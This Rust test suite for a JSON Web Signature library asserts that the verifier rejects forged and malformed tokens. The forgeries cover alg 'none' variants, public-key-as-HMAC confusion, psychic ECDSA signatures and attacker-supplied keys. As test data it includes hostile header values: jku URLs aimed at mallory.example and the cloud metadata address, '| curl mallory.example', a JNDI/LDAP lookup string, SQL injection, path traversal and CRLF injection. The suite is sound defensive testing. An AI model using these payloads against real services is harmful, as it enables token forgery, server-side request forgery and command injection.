//! Tokens that somebody made to be accepted. Each has a name and what must become of it.

use std::iter::zip;

use keyward_jose::{
    Algorithm, AlgorithmSet, DecodeBuffer, Jws, JwsError, KeyType, LocalSigner, SignatureError, Signer,
    VerificationKey,
};

use crate::support::{
    Outcome, SECRET, attempt, from_base64url, sign, signed, signer, to_base64url, verifier,
};

use JwsError::*;
use Outcome::{Unparsed, Unverified, Verified};
use SignatureError::{AlgorithmMismatch, Invalid};

const PAYLOAD: &[u8] = br#"{"sub":"mallory","admin":true}"#;

/// Holds a table of named tokens against one key.
fn hold(key: &VerificationKey, attacks: impl IntoIterator<Item = (String, Vec<u8>, Outcome)>) {
    let mut seen = 0;
    for (name, token, expected) in attacks {
        let shown: String = String::from_utf8_lossy(&token).chars().take(120).collect();
        assert_eq!(attempt(&token, key), expected, "{name}: {shown}");
        seen += 1;
    }
    assert!(seen > 0, "an empty table holds nothing");
}

/// A token with this header, well signed with HS256: only its header can be its fault.
fn with_header(header: &[u8]) -> Vec<u8> {
    signed(header, PAYLOAD, signer(Algorithm::Hs256)).into_bytes()
}

fn hs256() -> VerificationKey {
    verifier(signer(Algorithm::Hs256))
}

fn rs256() -> VerificationKey {
    verifier(signer(Algorithm::Rs256))
}

#[test]
fn none_is_refused_in_every_casing_and_with_any_signature() {
    let mut attacks = Vec::new();
    for casing in 0..16_u32 {
        let name: String =
            (0..).zip("none".chars()).map(|(bit, letter)| upper(casing, bit, letter)).collect();
        for (ending, signature) in [("empty", ""), ("stub", "AA"), ("longer", "c2lnbmF0dXJl")] {
            let input = unsigned(format!(r#"{{"alg":"{name}"}}"#).as_bytes());
            let token = format!("{input}.{signature}").into_bytes();
            attacks.push((format!("{name}, {ending} signature"), token, Unparsed(UnsupportedAlgorithm)));
        }
        let well_signed = with_header(format!(r#"{{"alg":"{name}"}}"#).as_bytes());
        attacks.push((format!("{name}, HMAC signature"), well_signed, Unparsed(UnsupportedAlgorithm)));
    }
    for alg in [r#""""#, r#"" none""#, r#""none ""#, r#""n\u006fne""#, r#""none\u0000""#, r#""no\u200bne""#] {
        let input = unsigned(format!(r#"{{"alg":{alg}}}"#).as_bytes());
        attacks.push((alg.to_owned(), format!("{input}.").into_bytes(), Unparsed(UnsupportedAlgorithm)));
    }
    for alg in ["null", "false", "0", "[]", "{}", r#"["none"]"#, r#"["HS256"]"#] {
        let token = with_header(format!(r#"{{"alg":{alg}}}"#).as_bytes());
        attacks.push((alg.to_owned(), token, Unparsed(MalformedHeader)));
    }
    hold(&hs256(), attacks);
}

fn upper(casing: u32, bit: u32, letter: char) -> char {
    if casing >> bit & 1 == 1 { letter.to_ascii_uppercase() } else { letter }
}

/// A signing input that nobody signed.
fn unsigned(header: &[u8]) -> String {
    format!("{}.{}", to_base64url(header), to_base64url(PAYLOAD))
}

#[test]
fn an_algorithm_is_only_known_by_its_exact_name() {
    let names = [
        "hs256",
        "Hs256",
        "HS256 ",
        " HS256",
        "HS256\\n",
        "HS256\\u0000",
        "HS-256",
        "HS256,none",
        "HS1",
        "HS224",
        "RS1",
        "ES256K",
        "ES384K",
        "ED25519",
        "eddsa",
        "Ed448",
        "ML-DSA-44",
        "ML-DSA-65",
        "ML-DSA-87",
        "RSA-OAEP",
        "dir",
        "A256KW",
        "HMAC",
        "SHA256",
        "\u{ff28}S256",
    ];
    hold(
        &hs256(),
        names.map(|name| {
            let header = format!(r#"{{"alg":"{name}"}}"#);
            (name.to_owned(), with_header(header.as_bytes()), Unparsed(UnsupportedAlgorithm))
        }),
    );
}

/// CVE-2015-9235 and its kin: the public key, which anybody has, taken for an HMAC secret.
#[test]
fn a_public_key_is_never_an_hmac_secret_in_any_of_its_forms() {
    for algorithm in [Algorithm::Rs256, Algorithm::Es256, Algorithm::EdDsa] {
        let victim = signer(algorithm);
        let jwk = serde_json::to_value(victim.public_jwk().unwrap()).unwrap();
        let mut secrets = vec![
            ("the JWK's text", jwk.to_string().into_bytes()),
            ("the thumbprint", victim.public_jwk().unwrap().thumbprint().as_bytes().to_vec()),
        ];
        for member in ["n", "x", "y"] {
            if let Some(text) = jwk[member].as_str() {
                secrets.push(("a member's text", text.as_bytes().to_vec()));
                secrets.push(("a member's octets", from_base64url(text)));
            }
        }
        if algorithm == Algorithm::Rs256 {
            let der = spki(&from_base64url(jwk["n"].as_str().unwrap()));
            for (start, end) in [("", ""), ("", "\n"), ("\n", "\n")] {
                secrets.push(("PEM", format!("{start}{}{end}", pem(&der)).into_bytes()));
            }
            secrets.push(("DER", der));
        }
        let mut attacks = Vec::new();
        for (form, secret) in &secrets {
            for confused in [Algorithm::Hs256, Algorithm::Hs384, Algorithm::Hs512] {
                let Ok(mallory) = LocalSigner::from_secret(confused, None, secret) else { continue };
                let header = format!(r#"{{"alg":"{confused}"}}"#);
                let token = signed(header.as_bytes(), PAYLOAD, &mallory).into_bytes();
                attacks.push((format!("{form} of {algorithm}"), token, Unverified(AlgorithmMismatch)));
            }
        }
        hold(&verifier(victim), attacks);
    }
}

/// A SubjectPublicKeyInfo of a 2048-bit modulus and the exponent 65537.
fn spki(modulus: &[u8]) -> Vec<u8> {
    let head =
        b"\x30\x82\x01\x22\x30\x0d\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01\x05\x00\x03\x82\x01\x0f\x00\
        \x30\x82\x01\x0a\x02\x82\x01\x01\x00";
    [head, modulus, b"\x02\x03\x01\x00\x01"].concat()
}

fn pem(der: &[u8]) -> String {
    let text = base64_simd::STANDARD.encode_to_string(der);
    let lines: Vec<_> = text.as_bytes().chunks(64).map(|line| std::str::from_utf8(line).unwrap()).collect();
    format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----", lines.join("\n"))
}

#[test]
fn an_hmac_secret_is_never_a_public_key() {
    for asymmetric in AlgorithmSet::asymmetric().iter() {
        let mallory = signer(asymmetric);
        let token = signed(format!(r#"{{"alg":"{asymmetric}"}}"#).as_bytes(), PAYLOAD, mallory);
        assert_eq!(attempt(token.as_bytes(), &hs256()), Unverified(AlgorithmMismatch));
    }
}

#[test]
fn a_key_with_alg_serves_no_other_algorithm_of_its_own_type() {
    let rsa = || Algorithm::ALL.into_iter().filter(|algorithm| algorithm.key_type() == KeyType::Rsa);
    for (made, claimed) in rsa().flat_map(|made| rsa().map(move |claimed| (made, claimed))) {
        let token = signed(format!(r#"{{"alg":"{made}"}}"#).as_bytes(), PAYLOAD, signer(made));
        let expected = if made == claimed { Verified } else { Unverified(AlgorithmMismatch) };
        assert_eq!(attempt(token.as_bytes(), &verifier(signer(claimed))), expected, "{made} for {claimed}");
        // The header says what the key serves, the signature is of another algorithm.
        let token = signed(format!(r#"{{"alg":"{claimed}"}}"#).as_bytes(), PAYLOAD, signer(made));
        let expected = if made == claimed { Verified } else { Unverified(Invalid) };
        assert_eq!(attempt(token.as_bytes(), &verifier(signer(claimed))), expected, "{made} as {claimed}");
    }
}

#[test]
fn a_curve_serves_its_own_algorithm_only() {
    let curves = [Algorithm::Es256, Algorithm::Es384, Algorithm::Es512, Algorithm::EdDsa];
    for (made, claimed) in curves.into_iter().flat_map(|made| curves.map(|claimed| (made, claimed))) {
        let token = signed(format!(r#"{{"alg":"{claimed}"}}"#).as_bytes(), PAYLOAD, signer(made));
        let expected = if made == claimed { Verified } else { Unverified(AlgorithmMismatch) };
        assert_eq!(attempt(token.as_bytes(), &verifier(signer(made))), expected, "{made} as {claimed}");
    }
}

/// CVE-2022-21449, "psychic signatures", and the other edges of the range.
#[test]
fn ecdsa_takes_no_signature_outside_the_range() {
    let orders = [
        (Algorithm::Es256, "ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551"),
        (
            Algorithm::Es384,
            "ffffffffffffffffffffffffffffffffffffffffffffffffc7634d81f4372ddf581a0db248b0a77aecec196accc52973",
        ),
        (
            Algorithm::Es512,
            "01fffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffa51868783bf2f966b7fcc0148f709a5d0\
             3bb5c9b8899c47aebb6fb71e91386409",
        ),
    ];
    for (algorithm, order) in orders {
        let signer = signer(algorithm);
        let input = unsigned(format!(r#"{{"alg":"{algorithm}"}}"#).as_bytes());
        let good = sign(signer, input.as_bytes());
        let (r, s) = good.split_at(good.len() / 2);
        let n = hex(order);
        assert_eq!(n.len(), r.len());
        let zero = vec![0; n.len()];
        let one = plus(&zero, 1);
        let most = vec![0xff; n.len()];
        let values = [&zero, &one, &n, &plus(&n, 1), &most, &r.to_vec(), &s.to_vec()];
        let mut attacks = Vec::new();
        for (first, second) in values.iter().flat_map(|first| values.map(|second| (*first, second))) {
            let signature = [first.as_slice(), second].concat();
            let expected = if signature == good { Verified } else { Unverified(Invalid) };
            let token = format!("{input}.{}", to_base64url(&signature)).into_bytes();
            attacks.push((format!("{algorithm} {signature:x?}"), token, expected));
        }
        hold(&verifier(signer), attacks);
    }
}

fn hex(text: &str) -> Vec<u8> {
    text.as_bytes()
        .chunks(2)
        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap())
        .collect()
}

/// `number` (big-endian) and a little more, without carrying.
fn plus(number: &[u8], little: u8) -> Vec<u8> {
    let mut sum = number.to_vec();
    *sum.last_mut().unwrap() += little;
    sum
}

/// ASN.1 where R and S belong side by side (RFC 7518 §3.4).
#[test]
fn an_ecdsa_signature_in_der_is_refused() {
    for algorithm in [Algorithm::Es256, Algorithm::Es384, Algorithm::Es512] {
        let signer = signer(algorithm);
        let input = unsigned(format!(r#"{{"alg":"{algorithm}"}}"#).as_bytes());
        let signature = sign(signer, input.as_bytes());
        let (r, s) = signature.split_at(signature.len() / 2);
        let integers = [der(2, &positive(r)), der(2, &positive(s))].concat();
        let token = format!("{input}.{}", to_base64url(&der(0x30, &integers)));
        assert_eq!(attempt(token.as_bytes(), &verifier(signer)), Unverified(Invalid), "{algorithm}");
    }
}

fn positive(magnitude: &[u8]) -> Vec<u8> {
    let digits = magnitude.iter().position(|octet| *octet != 0).map_or(&[][..], |start| &magnitude[start..]);
    if digits.first().is_some_and(|first| *first < 0x80) { digits.to_vec() } else { [&[0], digits].concat() }
}

fn der(tag: u8, content: &[u8]) -> Vec<u8> {
    let length = u8::try_from(content.len()).unwrap();
    let head = if length < 0x80 { vec![tag, length] } else { vec![tag, 0x81, length] };
    [head.as_slice(), content].concat()
}

#[test]
fn a_signature_of_another_length_is_refused() {
    for algorithm in Algorithm::ALL {
        let signer = signer(algorithm);
        let input = unsigned(format!(r#"{{"alg":"{algorithm}"}}"#).as_bytes());
        let good = sign(signer, input.as_bytes());
        let half = good.len() / 2;
        let bad = [
            ("empty", vec![]),
            ("one octet", good[..1].to_vec()),
            ("half", good[..half].to_vec()),
            ("without its first octet", good[1..].to_vec()),
            ("without its last octet", good[..good.len() - 1].to_vec()),
            ("with a zero before", [&[0], good.as_slice()].concat()),
            ("with a zero behind", [good.as_slice(), &[0]].concat()),
            ("each half with a zero before", [&[0], &good[..half], &[0], &good[half..]].concat()),
            ("twice", [good.as_slice(), &good].concat()),
            ("10 KiB", [good.as_slice(), &[0; 10_240]].concat()),
            ("all zero", vec![0; good.len()]),
            ("all ones", vec![0xff; good.len()]),
            ("backwards", good.iter().rev().copied().collect()),
        ];
        hold(
            &verifier(signer),
            bad.into_iter().map(|(name, signature)| {
                let token = format!("{input}.{}", to_base64url(&signature)).into_bytes();
                (format!("{algorithm}, {name}"), token, Unverified(Invalid))
            }),
        );
    }
}

/// CVE-2018-0114 and its kin: a token that brings its key, or says where to fetch it.
#[test]
fn what_a_header_carries_never_chooses_the_key() {
    let mallory = LocalSigner::generate(Algorithm::Es256, None).unwrap();
    let jwk = serde_json::to_string(mallory.public_jwk().unwrap()).unwrap();
    let x5c = r#"["MIIBtjCCAVugAwIBAgITBmyf1XSXNmY/Owua2eiedgPySjAKBggqhkjOPQQDAg=="]"#;
    let carried = [
        format!(r#""jwk":{jwk}"#),
        format!(r#""jwk":{{"keys":[{jwk}]}}"#),
        r#""jku":"https://mallory.example/jwks""#.to_owned(),
        r#""jku":"http://169.254.169.254/latest/meta-data/""#.to_owned(),
        r#""jku":"file:///etc/passwd""#.to_owned(),
        r#""x5u":"https://mallory.example/chain.pem""#.to_owned(),
        format!(r#""x5c":{x5c}"#),
        r#""x5t":"AAAA","x5t#S256":"AAAA""#.to_owned(),
        r#""jwk":null,"jku":7,"x5u":[],"x5c":{}"#.to_owned(),
    ];
    let victim = signer(Algorithm::Es256);
    for member in carried {
        let header = format!(r#"{{"alg":"ES256",{member}}}"#);
        let forged = signed(header.as_bytes(), PAYLOAD, &mallory);
        assert_eq!(attempt(forged.as_bytes(), &verifier(victim)), Unverified(Invalid), "{member}");
        // Nor does it keep the right key from being used.
        let honest = signed(header.as_bytes(), PAYLOAD, victim);
        assert_eq!(attempt(honest.as_bytes(), &verifier(victim)), Verified, "{member}");
    }
}

/// A kid is opaque: whatever stands in it comes back to the letter, and nothing is done with it.
#[test]
fn a_kid_is_handed_over_as_it_stands() {
    let long = "k".repeat(8_192);
    let kids = [
        "../../../../../../dev/null",
        "/etc/passwd",
        "..\\\\..\\\\windows\\\\win.ini",
        "' OR '1'='1' --",
        "x' UNION SELECT 'secret",
        "key\\u0000.pem",
        "| curl mallory.example",
        "${jndi:ldap://mallory.example}",
        "http://169.254.169.254/",
        "\\u202egpj",
        "\\n\\r\\nSet-Cookie: a=b",
        "",
        " ",
        &long,
        "\\ud83d\\ude00",
        "schlüssel",
    ];
    for kid in kids {
        let token = with_header(format!(r#"{{"alg":"HS256","kid":"{kid}"}}"#).as_bytes());
        let mut buffer = DecodeBuffer::new();
        let jws = Jws::parse(&token, Jws::DEFAULT_SIZE_LIMIT, &mut buffer).unwrap();
        let expected: String = serde_json::from_str(&format!("\"{kid}\"")).unwrap();
        assert_eq!(jws.header().kid(), Some(expected.as_str()));
        assert!(jws.verify(&hs256()).is_ok());
    }
}

#[test]
fn a_header_that_is_not_one_sound_json_object_is_refused() {
    let deep = |open: &str, close: &str| {
        format!(r#"{{"alg":"HS256","x":{}0{}}}"#, open.repeat(2_000), close.repeat(2_000)).into_bytes()
    };
    let many: Vec<_> = (0..900).map(|n| format!(r#""m{n}":0"#)).collect();
    let headers: Vec<(&str, Vec<u8>, JwsError)> = vec![
        ("empty", b"".to_vec(), MalformedHeader),
        ("white space", b"  ".to_vec(), MalformedHeader),
        ("a string", b"\"HS256\"".to_vec(), MalformedHeader),
        ("an array", br#"[{"alg":"HS256"}]"#.to_vec(), MalformedHeader),
        ("the members as an array", br#"["HS256",null,null,false,false]"#.to_vec(), MalformedHeader),
        ("null", b"null".to_vec(), MalformedHeader),
        ("no alg", br#"{"typ":"JWT"}"#.to_vec(), MalformedHeader),
        ("ALG", br#"{"ALG":"HS256"}"#.to_vec(), MalformedHeader),
        ("unterminated", br#"{"alg":"HS256""#.to_vec(), MalformedHeader),
        ("trailing comma", br#"{"alg":"HS256",}"#.to_vec(), MalformedHeader),
        ("comment", br#"{"alg":"HS256"/**/}"#.to_vec(), MalformedHeader),
        ("single quotes", b"{'alg':'HS256'}".to_vec(), MalformedHeader),
        ("two objects", br#"{"alg":"HS256"}{"alg":"none"}"#.to_vec(), MalformedHeader),
        ("an octet behind", b"{\"alg\":\"HS256\"}\0".to_vec(), MalformedHeader),
        ("byte order mark", b"\xef\xbb\xbf{\"alg\":\"HS256\"}".to_vec(), MalformedHeader),
        ("UTF-16", "{\"alg\":\"HS256\"}".bytes().flat_map(|octet| [octet, 0]).collect(), MalformedHeader),
        ("cut UTF-8", b"{\"alg\":\"HS256\",\"kid\":\"\xe2\x82".to_vec(), MalformedHeader),
        ("cut UTF-8 in a string", b"{\"alg\":\"HS256\",\"kid\":\"\xe2\x82\"}".to_vec(), MalformedHeader),
        (
            "cut UTF-8 in an unknown member",
            b"{\"alg\":\"HS256\",\"x\":\"\xe2\x82\"}".to_vec(),
            MalformedHeader,
        ),
        ("cut UTF-8 in a name", b"{\"alg\":\"HS256\",\"\xe2\x82\":0}".to_vec(), MalformedHeader),
        ("overlong UTF-8", b"{\"alg\":\"HS256\",\"kid\":\"\xc0\xaf\"}".to_vec(), MalformedHeader),
        ("surrogate in UTF-8", b"{\"alg\":\"HS256\",\"kid\":\"\xed\xa0\x80\"}".to_vec(), MalformedHeader),
        ("lone high surrogate", br#"{"alg":"HS256","kid":"\ud800"}"#.to_vec(), MalformedHeader),
        ("lone low surrogate", br#"{"alg":"HS256","kid":"\udc00"}"#.to_vec(), MalformedHeader),
        ("swapped surrogates", br#"{"alg":"HS256","kid":"\udc00\ud800"}"#.to_vec(), MalformedHeader),
        ("lone surrogate elsewhere", br#"{"alg":"HS256","x":["\ud800"]}"#.to_vec(), MalformedHeader),
        ("control character", b"{\"alg\":\"HS256\",\"kid\":\"\x01\"}".to_vec(), MalformedHeader),
        ("deep arrays", deep("[", "]"), MalformedHeader),
        ("deep objects", deep(r#"{"a":"#, "}"), MalformedHeader),
        ("deep and open", deep("[", ""), MalformedHeader),
        ("kid a number", br#"{"alg":"HS256","kid":1}"#.to_vec(), MalformedHeader),
        ("kid null", br#"{"alg":"HS256","kid":null}"#.to_vec(), MalformedHeader),
        ("kid an object", br#"{"alg":"HS256","kid":{"$ne":""}}"#.to_vec(), MalformedHeader),
        ("typ an array", br#"{"alg":"HS256","typ":["JWT"]}"#.to_vec(), MalformedHeader),
        ("alg twice", br#"{"alg":"HS256","alg":"HS256"}"#.to_vec(), DuplicateHeaderName),
        ("alg twice, none last", br#"{"alg":"HS256","alg":"none"}"#.to_vec(), DuplicateHeaderName),
        ("alg twice, by escape", br#"{"\u0061lg":"none","alg":"HS256"}"#.to_vec(), DuplicateHeaderName),
        ("alg twice, by escape last", br#"{"alg":"HS256","al\u0067":"none"}"#.to_vec(), DuplicateHeaderName),
        ("kid twice", br#"{"alg":"HS256","kid":"a","kid":"b"}"#.to_vec(), DuplicateHeaderName),
        ("unknown twice", br#"{"x":0,"alg":"HS256","x":0}"#.to_vec(), DuplicateHeaderName),
        ("unknown twice, inside", br#"{"alg":"HS256","x":[{"y":0,"y":0}]}"#.to_vec(), DuplicateHeaderName),
        ("empty name twice", br#"{"alg":"HS256","":0,"":0}"#.to_vec(), DuplicateHeaderName),
        (
            "twice among many",
            format!(r#"{{"alg":"HS256",{},"m0":1}}"#, many.join(",")).into_bytes(),
            DuplicateHeaderName,
        ),
        ("crit known", br#"{"alg":"HS256","crit":["alg"]}"#.to_vec(), CriticalHeaderUnsupported),
        ("crit exp", br#"{"alg":"HS256","crit":["exp"],"exp":9}"#.to_vec(), CriticalHeaderUnsupported),
        ("crit unknown", br#"{"alg":"HS256","crit":["x"],"x":1}"#.to_vec(), CriticalHeaderUnsupported),
        ("crit not there", br#"{"alg":"HS256","crit":["x"]}"#.to_vec(), CriticalHeaderUnsupported),
        ("crit empty", br#"{"alg":"HS256","crit":[]}"#.to_vec(), CriticalHeaderUnsupported),
        ("crit null", br#"{"alg":"HS256","crit":null}"#.to_vec(), CriticalHeaderUnsupported),
        ("crit text", br#"{"alg":"HS256","crit":"b64"}"#.to_vec(), CriticalHeaderUnsupported),
        ("crit by escape", br#"{"alg":"HS256","cr\u0069t":["x"]}"#.to_vec(), CriticalHeaderUnsupported),
        (
            "b64 false, critical",
            br#"{"alg":"HS256","b64":false,"crit":["b64"]}"#.to_vec(),
            CriticalHeaderUnsupported,
        ),
        ("b64 false alone", br#"{"alg":"HS256","b64":false}"#.to_vec(), CriticalHeaderUnsupported),
        ("b64 text", br#"{"alg":"HS256","b64":"false"}"#.to_vec(), MalformedHeader),
    ];
    hold(
        &hs256(),
        headers
            .into_iter()
            .map(|(name, header, error)| (name.to_owned(), with_header(&header), Unparsed(error))),
    );
    // What is odd and allowed.
    let sound = [
        (" \t\r\n{ \"alg\" : \"HS256\" }\n", "white space"),
        (r#"{"alg":"HS256","b64":true}"#, "b64 true, the default spelled out (RFC 7797 §3)"),
        (r#"{"alg":"\u0048S256"}"#, "an escape in the value is the same value"),
        (r#"{"alg":"HS256","Alg":"none"}"#, "names are compared with their case"),
        (r#"{"alg":"HS256","x":{"alg":"none"}}"#, "names are one object's"),
    ];
    for (header, why) in sound {
        assert_eq!(attempt(&with_header(header.as_bytes()), &hs256()), Verified, "{why}");
    }
}

#[test]
fn a_token_is_three_parts_and_nothing_around_them() {
    let token = String::from_utf8(with_header(br#"{"alg":"HS256"}"#)).unwrap();
    let [header, payload, signature] = token.split('.').collect::<Vec<_>>()[..] else {
        panic!("three parts")
    };
    let key = hs256();
    assert_eq!(attempt(token.as_bytes(), &key), Verified);
    let texts = [
        ("nothing", String::new(), NotThreeParts),
        ("one part", header.to_owned(), NotThreeParts),
        ("two parts", format!("{header}.{payload}"), NotThreeParts),
        ("four parts", format!("{token}.{signature}"), NotThreeParts),
        ("a dot behind", format!("{token}."), NotThreeParts),
        ("a dot before", format!(".{token}"), NotThreeParts),
        (
            "five parts, as JWE",
            format!("{header}.{payload}.{signature}.{payload}.{signature}"),
            NotThreeParts,
        ),
        ("dots only", "..".to_owned(), MalformedHeader),
        ("many dots", ".".repeat(16_000), NotThreeParts),
        ("no header", format!(".{payload}.{signature}"), MalformedHeader),
        (
            "JSON serialization",
            format!(r#"{{"payload":"{payload}","signature":"{signature}"}}"#),
            NotThreeParts,
        ),
        ("a scheme before", format!("Bearer {token}"), NotBase64Url),
        ("a space before", format!(" {token}"), NotBase64Url),
        ("a space behind", format!("{token} "), NotBase64Url),
        ("a newline behind", format!("{token}\n"), NotBase64Url),
        ("CR LF behind", format!("{token}\r\n"), NotBase64Url),
        ("NUL behind", format!("{token}\0"), NotBase64Url),
        ("a byte order mark before", format!("\u{feff}{token}"), NotBase64Url),
        ("quotes around", format!("\"{token}\""), NotBase64Url),
        ("a newline within", format!("{header}\n.{payload}.{signature}"), NotBase64Url),
        ("a space within", format!("{header}. {payload}.{signature}"), NotBase64Url),
        ("a full-width dot", format!("{header}\u{ff0e}{payload}.{signature}"), NotThreeParts),
        ("another letter", format!("{header}.{payload}é.{signature}"), NotBase64Url),
        ("percent encoded", format!("{header}.{payload}%3D.{signature}"), NotBase64Url),
    ];
    hold(&key, texts.map(|(name, text, error)| (name.to_owned(), text.into_bytes(), Unparsed(error))));
    // These are three parts: what is missing was never signed.
    hold(
        &key,
        [
            ("no payload", format!("{header}..{signature}")),
            ("no signature", format!("{header}.{payload}.")),
            ("header only", format!("{header}..")),
            ("payload for header", format!("{header}.{header}.{signature}")),
        ]
        .map(|(name, text)| (name.to_owned(), text.into_bytes(), Unverified(Invalid))),
    );
}

#[test]
fn each_part_has_one_spelling() {
    // Payload and signature of lengths that leave 4 and 2 bits over; the header is 16 octets: 4 bits.
    let token = signed(br#"{"alg":"HS256" }"#, b"{\"a\":\"bc\"}", signer(Algorithm::Hs256));
    let key = hs256();
    assert_eq!(attempt(token.as_bytes(), &key), Verified);
    let parts: Vec<_> = token.split('.').collect();
    let mut attacks = Vec::new();
    for (place, (part, name)) in zip(&parts, ["header", "payload", "signature"]).enumerate() {
        let swap = |new: String| {
            let mut parts: Vec<_> = parts.iter().map(|part| (*part).to_owned()).collect();
            parts[place] = new;
            parts.join(".").into_bytes()
        };
        let padding = "=".repeat((4 - part.len() % 4) % 4);
        assert!(!padding.is_empty(), "{name} leaves bits over");
        for (what, text) in [
            ("padded", format!("{part}{padding}")),
            ("one pad too few or many", format!("{part}{padding}=")),
            ("padded by the percent", format!("{part}{}", padding.replace('=', "%3D"))),
            ("one letter of the other alphabet", format!("{}+", &part[..part.len() - 1])),
            ("another letter of it", format!("/{}", &part[1..])),
            ("one letter too many", format!("{part}{}A", if part.len() % 4 == 2 { "AA" } else { "A" })),
        ] {
            attacks.push((format!("{name}, {what}"), swap(text), Unparsed(NotBase64Url)));
        }
        // Every last letter that decodes to the same octets, but for the bits left over.
        const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let last = ALPHABET.iter().position(|letter| part.as_bytes().last() == Some(letter)).unwrap();
        let spare = if part.len() % 4 == 2 { 16 } else { 4 };
        assert_eq!(last % spare, 0);
        for letter in &ALPHABET[last + 1..last + spare] {
            let text = format!("{}{}", &part[..part.len() - 1], char::from(*letter));
            attacks.push((format!("{name}, bits left over"), swap(text), Unparsed(NotBase64Url)));
        }
    }
    hold(&key, attacks);
}

#[test]
fn a_token_over_the_limit_is_refused_before_any_work() {
    let key = hs256();
    let mut buffer = DecodeBuffer::new();
    // Not one octet of it would pass: only the length can have been looked at.
    let huge = vec![b'\xff'; 1_000_000];
    let refusal = Jws::parse(&huge, Jws::DEFAULT_SIZE_LIMIT, &mut buffer);
    assert_eq!(refusal.err(), Some(TooLarge { octets: 1_000_000, limit: 16_384 }));

    for (filler, expected_octets) in [(0, None), (1, Some(16_385)), (2, Some(16_386))] {
        let token = filled_to(16_384 + filler);
        let expected = expected_octets
            .map_or(Verified, |octets| Unparsed(TooLarge { octets, limit: Jws::DEFAULT_SIZE_LIMIT }));
        assert_eq!(attempt(&token, &key), expected, "{} octets", token.len());
    }
    let token = with_header(br#"{"alg":"HS256"}"#);
    assert!(Jws::parse(&token, token.len(), &mut buffer).is_ok());
    assert!(Jws::parse(&token, token.len() - 1, &mut buffer).is_err());
    assert_eq!(Jws::parse(b"", 0, &mut buffer).err(), Some(NotThreeParts));
}

/// A well-signed token of exactly so many octets; a kid and a payload make up what base64 cannot.
fn filled_to(octets: usize) -> Vec<u8> {
    for kid in 0..4 {
        for payload in (octets * 3 / 4 - 200)..octets * 3 / 4 {
            let header = format!(r#"{{"alg":"HS256","kid":"{}"}}"#, "k".repeat(kid));
            let length = (header.len() * 4).div_ceil(3) + (payload * 4).div_ceil(3) + 2 + 43;
            if length == octets {
                let token = signed(header.as_bytes(), &vec![b' '; payload], signer(Algorithm::Hs256));
                assert_eq!(token.len(), octets);
                return token.into_bytes();
            }
        }
    }
    panic!("no token of {octets} octets")
}

#[test]
fn a_buffer_that_held_another_token_changes_nothing() {
    let good = with_header(br#"{"alg":"HS256","kid":"good"}"#);
    let bad = format!("{}AAAA", String::from_utf8(good.clone()).unwrap()).into_bytes();
    let mut buffer = DecodeBuffer::new();
    for _ in 0..3 {
        assert!(Jws::parse(&good, 4096, &mut buffer).unwrap().verify(&hs256()).is_ok());
        assert!(Jws::parse(&bad, 4096, &mut buffer).unwrap().verify(&hs256()).is_err());
        assert!(Jws::parse(b"!.!.!", 4096, &mut buffer).is_err());
        assert!(Jws::parse(b"..", 4096, &mut buffer).is_err());
    }
}

/// RFC 9864: both names are one algorithm, and each verifies what was signed under it.
#[test]
fn ed25519_is_known_by_both_its_names_and_the_name_is_signed() {
    let signer = signer(Algorithm::EdDsa);
    let key = verifier(signer);
    let old = signed(br#"{"alg":"EdDSA"}"#, PAYLOAD, signer);
    let new = signed(br#"{"alg":"Ed25519"}"#, PAYLOAD, signer);
    assert_eq!(attempt(old.as_bytes(), &key), Verified);
    assert_eq!(attempt(new.as_bytes(), &key), Verified);
    let (_, payload_and_signature) = old.split_once('.').unwrap();
    let swapped = format!("{}.{payload_and_signature}", to_base64url(br#"{"alg":"Ed25519"}"#));
    assert_eq!(attempt(swapped.as_bytes(), &key), Unverified(Invalid));
}

/// RSA signatures are numbers below the modulus, of exactly its length.
#[test]
fn an_rsa_signature_has_one_form() {
    let key = rs256();
    let signer = signer(Algorithm::Rs256);
    let jwk = serde_json::to_value(signer.public_jwk().unwrap()).unwrap();
    let modulus = from_base64url(jwk["n"].as_str().unwrap());
    let input = unsigned(br#"{"alg":"RS256"}"#);
    let good = sign(signer, input.as_bytes());
    let mut more = vec![0; 256];
    let mut carry = 0;
    for place in (0..256).rev() {
        let sum = u16::from(good[place]) + u16::from(modulus[place]) + carry;
        more[place] = (sum & 0xff) as u8;
        carry = sum >> 8;
    }
    let above = if carry == 0 { more } else { [&[1], more.as_slice()].concat() };
    let zero = vec![0; 256];
    let one = plus(&zero, 1);
    hold(
        &key,
        [("signature plus modulus", above), ("the modulus", modulus), ("0", zero), ("1", one)].map(
            |(name, signature)| {
                let token = format!("{input}.{}", to_base64url(&signature)).into_bytes();
                (name.to_owned(), token, Unverified(Invalid))
            },
        ),
    );
}

/// A secret that serves several algorithms: a tag of one is none of another.
#[test]
fn a_tag_is_of_one_hash() {
    let all = [Algorithm::Hs256, Algorithm::Hs384, Algorithm::Hs512];
    let key = VerificationKey::from_secret(SECRET, all.into_iter().collect(), None).unwrap();
    for (made, claimed) in all.into_iter().flat_map(|made| all.map(|claimed| (made, claimed))) {
        let token = signed(format!(r#"{{"alg":"{claimed}"}}"#).as_bytes(), PAYLOAD, signer(made));
        let expected = if made == claimed { Verified } else { Unverified(Invalid) };
        assert_eq!(attempt(token.as_bytes(), &key), expected, "{made} as {claimed}");
    }
}
